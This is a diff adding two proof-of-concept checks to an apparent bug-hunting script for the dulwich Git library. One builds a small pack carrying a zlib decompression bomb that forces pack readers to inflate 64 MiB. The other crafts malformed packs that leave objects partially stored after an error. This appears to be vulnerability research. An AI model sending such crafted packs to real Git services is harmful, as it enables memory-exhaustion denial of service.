@@ -261,8 +261,77 @@ def F8():
         print("F8: one bit flipped in a %d-byte idx: iterating the index raised %s (address space limit 2 GiB)" % (len(good), type(e).__name__))
 
 
+def G1():
+    """The per-call inflation bound "declared + 1" turns into "no limit" once exactly declared + 1 bytes have come out:
+    a 128 KiB pack whose single entry declares 65528 bytes makes every pack reader inflate 64 MiB."""
+    import resource
+
+    from dulwich.pack import PackData
+
+    filler = bytes((i * 7 + 3) % 251 + 1 for i in range(65536 - 2 - 5))  # stored block: zlib header + 5 + filler = exactly 64 KiB of input
+    zeros = bytes(64 << 20)
+    co = zlib.compressobj(9, zlib.DEFLATED, -15)
+    bomb = co.compress(zeros) + co.flush()
+    z = b"\x78\x9c\x00" + struct.pack("<HH", len(filler), len(filler) ^ 0xFFFF) + filler + bomb + struct.pack(">L", zlib.adler32(filler + zeros))
+    data = pack_of([hdr(3, len(filler) - 1) + z])  # declared = what the first 64 KiB inflate to, minus one
+
+    import tracemalloc
+
+    for how in ("PackData.iter_unpacked (buffer reader)", "MemoryObjectStore.add_thin_pack (stream reader)"):
+        tracemalloc.start()
+        try:
+            if how.startswith("PackData"):
+                list(PackData.from_file(io.BytesIO(data), OF).iter_unpacked())
+            else:
+                MemoryObjectStore().add_thin_pack(io.BytesIO(data).read, None)
+            print("G1: %s accepted?!" % how)
+        except Exception as e:
+            print("G1: %d-byte pack, entry declares %d bytes: %s raised %s(%s) after allocating up to %d MiB" % (
+                len(data), len(filler) - 1, how, type(e).__name__, e, tracemalloc.get_traced_memory()[1] >> 20))
+        tracemalloc.stop()
+
+
+def G2():
+    """Bundle.store_objects / porcelain.unpack_objects add objects while the pack is still being resolved."""
+    from dulwich.bundle import Bundle
+    from dulwich.pack import PackData
+
+    blob = b"second blob\n"
+    missing = hashlib.sha1(b"no such object").digest()
+    data = pack_of([blob_entry(blob), ref_delta_entry(missing, b"\x03\x03\x03abc")])
+    store = MemoryObjectStore()
+    b = Bundle()
+    b.version, b.capabilities, b.prerequisites, b.references = 2, {}, [], {}
+    b.pack_data = PackData.from_file(io.BytesIO(data), OF)
+    try:
+        b.store_objects(store)
+        print("G2: store_objects succeeded?!")
+    except Exception as e:
+        print("G2: Bundle.store_objects raised %s; objects now in the store: %r" % (type(e).__name__, sorted(store)))
+    b.close()
+    from dulwich import porcelain
+    from dulwich.repo import Repo
+
+    root = os.path.join(SCRATCH, "g2")
+    os.makedirs(root)
+    Repo.init_bare(root).close()
+    data = pack_of([blob_entry(blob), hdr(2, 14) + zlib.compress(b"100644 a\x00short")])  # a blob and a tree that does not parse
+    with open(os.path.join(SCRATCH, "in.pack"), "wb") as f:
+        f.write(data)
+    e0 = blob_entry(blob)
+    with open(os.path.join(SCRATCH, "in.idx"), "wb") as f:
+        write_pack_index_v2(f, sorted([(hashlib.sha1(b"blob %d\x00" % len(blob) + blob).digest(), 12, 0), (hashlib.sha1(b"x").digest(), 12 + len(e0), 0)]), data[-20:])
+    try:
+        porcelain.unpack_objects(os.path.join(SCRATCH, "in.pack"), root)
+        print("G2: unpack_objects succeeded?!")
+    except Exception as e:
+        r = Repo(root)
+        print("G2: porcelain.unpack_objects raised %s; objects now in the repository: %r" % (type(e).__name__, sorted(r.object_store)))
+        r.close()
+
+
 if __name__ == "__main__":
-    which = sys.argv[1:] or ["F1", "F2", "F3", "F6", "F7", "F8", "F9"]
+    which = sys.argv[1:] or ["F1", "F2", "F3", "F6", "F7", "F8", "F9", "G1", "G2"]
     try:
         for w in which:
             globals()[w]()
